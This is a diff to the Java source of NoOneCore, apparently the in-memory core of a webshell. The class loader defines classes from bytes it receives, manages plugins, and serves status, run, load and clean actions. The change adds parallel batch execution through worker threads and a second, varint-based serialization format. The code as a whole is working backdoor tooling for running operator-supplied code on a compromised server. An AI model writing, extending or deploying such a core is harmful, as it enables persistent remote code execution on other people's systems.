@@ -5,12 +5,13 @@ import java.net.URL;
 import java.net.URLClassLoader;
 import java.util.*;
 import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.atomic.AtomicInteger;
 
 /**
  * @author ReaJason
  * @since 2025/8/29
  */
-public class NoOneCore extends URLClassLoader {
+public class NoOneCore extends URLClassLoader implements Runnable {
 
     private static final String ACTION = "action";
     private static final String CLASSNAME = "className";
@@ -24,17 +25,23 @@ public class NoOneCore extends URLClassLoader {
     private static final String CLASS_RUN = "classRun";
     private static final String PLUGIN_CACHES = "pluginCaches";
     private static final String GLOBAL_CACHES = "globalCaches";
+    private static final String CODEC_VERSION = "codecVersion";
+    private static final String ACTIONS = "actions";
+    private static final String CALLS = "calls";
+    private static final String PARALLEL = "parallel";
 
     private static final String ACTION_STATUS = "status";
     private static final String ACTION_RUN = "run";
     private static final String ACTION_LOAD = "load";
     private static final String ACTION_CLEAN = "clean";
+    private static final String ACTION_BATCH = "batch";
 
     private static final String CODE = "code";
     private static final String ERROR = "error";
     private static final String DATA = "data";
     private static final int SUCCESS = 0;
     private static final int FAILURE = 1;
+    private static final int MAX_BATCH_WORKERS = 8;
 
     // pluginName to pluginObject
     public static final Map<String, Object> loadedPluginCache = new ConcurrentHashMap<>();
@@ -64,6 +71,9 @@ public class NoOneCore extends URLClassLoader {
 
     private Object req;
     private Object res;
+    private List<Object> batchCalls;
+    private Object[] batchResults;
+    private AtomicInteger batchNext;
 
     @Override
     public boolean equals(Object obj) {
@@ -78,52 +88,18 @@ public class NoOneCore extends URLClassLoader {
         Map<String, Object> result = new LinkedHashMap<>();
         result.put(CODE, SUCCESS);
         Map<String, Object> args = new HashMap<>();
+        int codecVersion = inputBytes != null && inputBytes.length > 0 && inputBytes[0] == ROOT_V2 ? 2 : 1;
         try {
             args = deserialize(inputBytes);
         } catch (Throwable e) {
             result.put(CODE, FAILURE);
             result.put(ERROR, getStackTraceAsString(new RuntimeException("args parsed failed, " + e.getMessage(), e)));
         }
-        String action = (String) args.get(ACTION);
-        if (action != null) {
-            try {
-                switch (action) {
-                    case ACTION_STATUS:
-                        result.putAll(getStatus());
-                        break;
-                    case ACTION_RUN:
-                        result.putAll(run(args));
-                        break;
-                    case ACTION_LOAD:
-                        Object loaded = load(args, result);
-                        result.put(DATA, loaded != null);
-                        break;
-                    case ACTION_CLEAN:
-                        for (Object service : globalCaches.values()) {
-                            try {
-                                Map<String, Object> shutdownCtx = new HashMap<>();
-                                shutdownCtx.put("op", "shutdown");
-                                service.equals(shutdownCtx);
-                            } catch (Throwable ignored) {
-                            }
-                        }
-                        globalCaches.clear();
-                        loadedPluginCache.clear();
-                        loadedPluginVersionCache.clear();
-                        pluginClassLoader = null;
-                        break;
-                    default:
-                        result.put(CODE, FAILURE);
-                        result.put(ERROR, "action [" + action + "] not supported");
-                        break;
-                }
-            } catch (Throwable e) {
-                result.put(CODE, FAILURE);
-                result.put(ERROR, getStackTraceAsString(new RuntimeException("action [" + action + "] run failed, " + e.getMessage(), e)));
-            }
+        if (args.get(ACTION) != null) {
+            result = handle(args);
         }
         try {
-            byte[] bytes = serialize(result);
+            byte[] bytes = codecVersion == 2 ? serializeV2(result) : serialize(result);
             outputStream.write(bytes, 0, bytes.length);
             outputStream.flush();
             outputStream.close();
@@ -133,6 +109,102 @@ public class NoOneCore extends URLClassLoader {
         return true;
     }
 
+    private Map<String, Object> handle(Map<String, Object> args) {
+        Map<String, Object> result = new LinkedHashMap<>();
+        result.put(CODE, SUCCESS);
+        String action = (String) args.get(ACTION);
+        try {
+            switch (action) {
+                case ACTION_STATUS:
+                    result.putAll(getStatus());
+                    break;
+                case ACTION_RUN:
+                    result.putAll(run(args));
+                    break;
+                case ACTION_LOAD:
+                    Object loaded = load(args, result);
+                    result.put(DATA, loaded != null);
+                    break;
+                case ACTION_BATCH:
+                    result.put(DATA, batch(args));
+                    break;
+                case ACTION_CLEAN:
+                    for (Object service : globalCaches.values()) {
+                        try {
+                            Map<String, Object> shutdownCtx = new HashMap<>();
+                            shutdownCtx.put("op", "shutdown");
+                            service.equals(shutdownCtx);
+                        } catch (Throwable ignored) {
+                        }
+                    }
+                    globalCaches.clear();
+                    loadedPluginCache.clear();
+                    loadedPluginVersionCache.clear();
+                    pluginClassLoader = null;
+                    break;
+                default:
+                    result.put(CODE, FAILURE);
+                    result.put(ERROR, "action [" + action + "] not supported");
+                    break;
+            }
+        } catch (Throwable e) {
+            result.put(CODE, FAILURE);
+            result.put(ERROR, getStackTraceAsString(new RuntimeException("action [" + action + "] run failed, " + e.getMessage(), e)));
+        }
+        return result;
+    }
+
+    /**
+     * Handles each request in {@code calls} as if it had been sent on its own and returns their results in the same
+     * order. Calls run one after another unless {@code parallel} is set, in which case at most
+     * {@link #MAX_BATCH_WORKERS} threads take the calls in turn, however many the client sends.
+     * <p>
+     * The workers are instances of this class because the core reaches the shell as a single class and has no other
+     * {@link Runnable} to start. There is one per worker rather than per call, and each is an empty loader that never
+     * defines a class.
+     */
+    @SuppressWarnings("unchecked")
+    public List<Object> batch(Map<String, Object> args) throws InterruptedException {
+        List<Object> calls = (List<Object>) args.get(CALLS);
+        List<Object> results = new ArrayList<Object>();
+        if (calls == null) {
+            return results;
+        }
+        if (!asBoolean(args.get(PARALLEL)) || calls.size() < 2) {
+            for (Object call : calls) {
+                results.add(handle((Map<String, Object>) call));
+            }
+            return results;
+        }
+        Object[] batchResults = new Object[calls.size()];
+        AtomicInteger batchNext = new AtomicInteger();
+        Thread[] threads = new Thread[Math.min(calls.size(), MAX_BATCH_WORKERS)];
+        for (int i = 0; i < threads.length; i++) {
+            NoOneCore worker = new NoOneCore(getParent());
+            worker.req = req;
+            worker.res = res;
+            worker.batchCalls = calls;
+            worker.batchResults = batchResults;
+            worker.batchNext = batchNext;
+            threads[i] = new Thread(worker);
+            threads[i].setDaemon(true);
+            threads[i].start();
+        }
+        for (Thread thread : threads) {
+            thread.join();
+        }
+        results.addAll(Arrays.asList(batchResults));
+        return results;
+    }
+
+    @Override
+    @SuppressWarnings("unchecked")
+    public void run() {
+        for (int i = batchNext.getAndIncrement(); i < batchCalls.size(); i = batchNext.getAndIncrement()) {
+            batchResults[i] = handle((Map<String, Object>) batchCalls.get(i));
+        }
+    }
+
     private Class<?> defineClass(String className, byte[] bytes) {
         return super.defineClass(className, bytes, 0, bytes.length);
     }
@@ -141,6 +213,8 @@ public class NoOneCore extends URLClassLoader {
         Map<String, Object> result = new HashMap<>();
         result.put(PLUGIN_CACHES, loadedPluginVersionCache);
         result.put(GLOBAL_CACHES, globalCaches.keySet());
+        result.put(CODEC_VERSION, 2);
+        result.put(ACTIONS, Arrays.asList(ACTION_STATUS, ACTION_RUN, ACTION_LOAD, ACTION_CLEAN, ACTION_BATCH));
         return result;
     }
 
@@ -254,6 +328,7 @@ public class NoOneCore extends URLClassLoader {
     static final byte OBJECT_ARRAY = 0x8;
     static final byte SET = 0x09;
     static final byte MAP = 0x10;
+    static final byte ROOT_V2 = 0x20;
 
     public byte[] serialize(Map<String, Object> map) throws IOException {
         ByteArrayOutputStream baos = new ByteArrayOutputStream();
@@ -268,11 +343,171 @@ public class NoOneCore extends URLClassLoader {
         byte type = dis.readByte();
         if (type == MAP) {
             return readMap(dis);
+        } else if (type == ROOT_V2) {
+            return readMapV2(dis);
         } else {
             throw new IOException("Root object is not a Map.");
         }
     }
 
+    public byte[] serializeV2(Map<String, Object> map) throws IOException {
+        ByteArrayOutputStream baos = new ByteArrayOutputStream();
+        DataOutputStream dos = new DataOutputStream(baos);
+        dos.writeByte(ROOT_V2);
+        writeMapBodyV2(dos, map);
+        return baos.toByteArray();
+    }
+
+    private void writeMapBodyV2(DataOutputStream dos, Map<String, Object> map) throws IOException {
+        if (map == null) {
+            writeVarint(dos, 0);
+            return;
+        }
+        writeVarint(dos, map.size());
+        for (Map.Entry<String, Object> entry : map.entrySet()) {
+            writeStringV2(dos, entry.getKey());
+            writeObjectV2(dos, entry.getValue());
+        }
+    }
+
+    private void writeObjectV2(DataOutputStream dos, Object obj) throws IOException {
+        if (obj == null) {
+            dos.writeByte(NULL);
+        } else if (obj instanceof String) {
+            dos.writeByte(STRING);
+            writeStringV2(dos, (String) obj);
+        } else if (obj instanceof Integer) {
+            dos.writeByte(INTEGER);
+            dos.writeInt((Integer) obj);
+        } else if (obj instanceof Long) {
+            dos.writeByte(LONG);
+            dos.writeLong((Long) obj);
+        } else if (obj instanceof Double) {
+            dos.writeByte(DOUBLE);
+            dos.writeDouble((Double) obj);
+        } else if (obj instanceof Boolean) {
+            dos.writeByte(BOOLEAN);
+            dos.writeBoolean((Boolean) obj);
+        } else if (obj instanceof byte[]) {
+            dos.writeByte(BYTE_ARRAY);
+            byte[] bytes = (byte[]) obj;
+            writeVarint(dos, bytes.length);
+            dos.write(bytes);
+        } else if (obj instanceof Set || obj instanceof List) {
+            dos.writeByte(obj instanceof Set ? SET : LIST);
+            Collection<?> items = (Collection<?>) obj;
+            writeVarint(dos, items.size());
+            for (Object item : items) {
+                writeObjectV2(dos, item);
+            }
+        } else if (obj instanceof Object[]) {
+            dos.writeByte(OBJECT_ARRAY);
+            Object[] array = (Object[]) obj;
+            writeVarint(dos, array.length);
+            for (Object item : array) {
+                writeObjectV2(dos, item);
+            }
+        } else if (obj instanceof Map) {
+            dos.writeByte(MAP);
+            @SuppressWarnings("unchecked")
+            Map<String, Object> subMap = (Map<String, Object>) obj;
+            writeMapBodyV2(dos, subMap);
+        } else {
+            throw new IllegalArgumentException("Unsupported type for serialization: " + obj.getClass().getName());
+        }
+    }
+
+    private void writeStringV2(DataOutputStream dos, String value) throws IOException {
+        byte[] bytes = value.getBytes("UTF-8");
+        writeVarint(dos, bytes.length);
+        dos.write(bytes);
+    }
+
+    private void writeVarint(DataOutputStream dos, int value) throws IOException {
+        while ((value & ~0x7F) != 0) {
+            dos.writeByte((value & 0x7F) | 0x80);
+            value >>>= 7;
+        }
+        dos.writeByte(value);
+    }
+
+    private Map<String, Object> readMapV2(DataInputStream dis) throws IOException {
+        int size = readVarint(dis);
+        Map<String, Object> map = new HashMap<>();
+        for (int i = 0; i < size; i++) {
+            String key = readStringV2(dis);
+            map.put(key, readObjectV2(dis));
+        }
+        return map;
+    }
+
+    private Object readObjectV2(DataInputStream dis) throws IOException {
+        byte type = dis.readByte();
+        switch (type) {
+            case NULL:
+                return null;
+            case STRING:
+                return readStringV2(dis);
+            case INTEGER:
+                return dis.readInt();
+            case LONG:
+                return dis.readLong();
+            case DOUBLE:
+                return dis.readDouble();
+            case BOOLEAN:
+                return dis.readBoolean();
+            case BYTE_ARRAY:
+                byte[] bytes = new byte[readVarint(dis)];
+                dis.readFully(bytes);
+                return bytes;
+            case SET:
+                int setSize = readVarint(dis);
+                Set<Object> set = new LinkedHashSet<>();
+                for (int i = 0; i < setSize; i++) {
+                    set.add(readObjectV2(dis));
+                }
+                return set;
+            case LIST:
+                int listSize = readVarint(dis);
+                List<Object> list = new ArrayList<>();
+                for (int i = 0; i < listSize; i++) {
+                    list.add(readObjectV2(dis));
+                }
+                return list;
+            case OBJECT_ARRAY:
+                Object[] array = new Object[readVarint(dis)];
+                for (int i = 0; i < array.length; i++) {
+                    array[i] = readObjectV2(dis);
+                }
+                return array;
+            case MAP:
+                return readMapV2(dis);
+            default:
+                throw new IOException("Unknown data type found in stream: " + type);
+        }
+    }
+
+    private String readStringV2(DataInputStream dis) throws IOException {
+        byte[] bytes = new byte[readVarint(dis)];
+        dis.readFully(bytes);
+        return new String(bytes, "UTF-8");
+    }
+
+    private int readVarint(DataInputStream dis) throws IOException {
+        int value = 0;
+        for (int shift = 0; shift < 35; shift += 7) {
+            byte b = dis.readByte();
+            value |= (b & 0x7F) << shift;
+            if ((b & 0x80) == 0) {
+                if (value < 0) {
+                    throw new IOException("Negative length in stream");
+                }
+                return value;
+            }
+        }
+        throw new IOException("Malformed varint in stream");
+    }
+
     private void writeMap(DataOutputStream dos, Map<String, Object> map) throws IOException {
         dos.writeByte(MAP);
         if (map == null) {